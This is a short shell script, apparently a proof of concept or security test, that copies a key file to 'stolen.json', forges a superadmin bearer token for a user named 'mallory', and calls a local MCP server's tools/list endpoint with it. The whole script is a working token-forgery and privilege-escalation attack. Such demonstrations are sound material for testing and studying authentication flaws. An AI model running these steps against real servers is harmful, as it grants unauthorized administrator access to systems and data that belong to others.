cp keys.json stolen.json
FORGED=$(MCP_KEYS_FILE=stolen.json generate-mcp-token --user-id mallory --role superadmin)
call() {
  curl -s -o answer.json -w '%{http_code}\n' http://127.0.0.1:8765/mcp \
    -H "Authorization: Bearer $1" \
    -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' \
    -d '{"jsonrpc": "2.0", "id": 1, "method": "tools/list"}'
}
call "$FORGED"
